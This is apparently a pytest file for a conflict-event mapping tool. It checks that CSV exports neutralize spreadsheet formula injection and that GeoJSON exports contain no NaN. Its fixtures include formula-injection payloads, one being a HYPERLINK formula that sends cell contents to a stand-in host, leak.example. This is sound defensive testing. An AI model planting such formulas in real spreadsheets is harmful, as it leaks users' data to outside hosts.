"""Exports read by spreadsheets and by JSON parsers: no live formulas, no NaN (findings 5 and issue 13.4).

Articles whose outlet and paragraphs start with formula characters go through the real `clashmap ingest`
and `clashmap export`; the CSV is read back with Python's csv module, the GeoJSON with a strict parser.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from store.export import FORMULA_STARTS, neutralize_cell

ROOT = Path(__file__).resolve().parents[2]

# (first characters of the outlet and of the event's paragraph, place, dateline, date)
HOSTILE = [
    ('=HYPERLINK("http://leak.example/?d="&A2,"open")', "Shusha", "STEPANAKERT, Azerbaijan", "2020-10-01"),
    ("+1", "Martuni", "STEPANAKERT, Azerbaijan", "2020-10-02"),
    ("-2+3", "Hadrut", "STEPANAKERT, Azerbaijan", "2020-10-03"),
    ("@SUM(A1:A9)", "Ganja", "STEPANAKERT, Azerbaijan", "2020-10-04"),
    ("-", "Popayan", "CALI, Colombia", "2020-10-05"),  # west of Greenwich: a negative longitude
]
NUMERIC = {"year", "time_precision", "inter1", "inter2", "interaction", "iso", "latitude", "longitude",
           "geo_precision", "fatalities", "timestamp"}


def _victims(place: str) -> str:
    # civilians give the event a second actor, fighters of no named side none: the column is mixed (soldiers
    # would be the state's forces, the event country's: brief E10)
    return "fighters" if place == "Popayan" else "civilians"


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory) -> dict[str, str]:
    folder = tmp_path_factory.mktemp("hostile")
    for n, (start, place, dateline, day) in enumerate(HOSTILE):
        (folder / f"article{n}.txt").write_text(
            f"source: {start} Wire\ntitle: Report {n}\n\n"
            f"{day} {dateline} – Officials said the night was quiet.\n"
            f"{start} Artillery shelled {place} on Sunday, killing two {_victims(place)}.\n", encoding="utf-8")
    env = {**{k: v for k, v in os.environ.items() if not k.startswith("CLASHMAP_")},
           "CLASHMAP_DB": f"sqlite:///{folder / 'store.sqlite'}"}
    done = subprocess.run([sys.executable, "-m", "clashmap", "ingest", "--quiet", str(folder)], cwd=ROOT, env=env,
                          capture_output=True, text=True, timeout=300)
    assert done.returncode == 0 and done.stdout.startswith(f"added {len(HOSTILE)},"), done.stdout + done.stderr
    return env


def _export(env: dict[str, str], fmt: str) -> bytes:
    done = subprocess.run([sys.executable, "-m", "clashmap", "export", "--format", fmt], cwd=ROOT, env=env,
                          capture_output=True, timeout=300)
    assert done.returncode == 0, done.stderr.decode()[-2000:]
    return done.stdout


def test_csv_export_has_no_live_formula_and_keeps_negative_coordinates_numbers(hostile_store):
    raw = _export(hostile_store, "csv")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert len(rows) == len(HOSTILE)
    for row in rows:
        for column, cell in row.items():
            if column in NUMERIC and cell:
                float(cell)  # a number, written as a number
            else:
                assert not cell.startswith(FORMULA_STARTS), (column, cell)
    by_place = {row["location"]: row for row in rows}
    for start, place, _, _ in HOSTILE:
        row = by_place["Popayán" if place == "Popayan" else place]
        # the text is all there, behind the quote a spreadsheet shows as text
        assert row["source"] == f"'{start} Wire"  # ACLED's source: the outlet
        assert row["notes"] == f"'{start} Artillery shelled {place} on Sunday, killing two {_victims(place)}."
    assert float(by_place["Popayán"]["longitude"]) < -70  # still a (negative) number
    assert float(by_place["Popayán"]["latitude"]) > 0
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark: Excel then reads "Popayán" right


def _no_constants(name: str):
    raise ValueError(f"{name} is not JSON")


def test_geojson_export_is_strict_json_with_null_for_missing_actors(hostile_store):
    raw = _export(hostile_store, "geojson")
    data = json.loads(raw.decode("utf-8"), parse_constant=_no_constants)  # NaN/Infinity would raise here
    features = data["features"]
    assert len(features) == len(HOSTILE)
    assert all(f["properties"]["actor1"] is None for f in features)  # "Artillery" names no actor
    assert all(f["properties"]["claimed_by"] is None for f in features)
    second = {f["properties"]["place"]: f["properties"]["actor2"] for f in features}
    assert second["Popayán"] is None and second["Shusha"] == "Civilians (Azerbaijan)"  # ACLED: the country name


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"])
def test_every_owasp_formula_start_is_neutralized(cell):
    assert neutralize_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Shusha", "2020-10-01", "", "'=quoted already", -76.6, None])
def test_other_cells_are_left_as_they_are(cell):
    assert neutralize_cell(cell) == cell
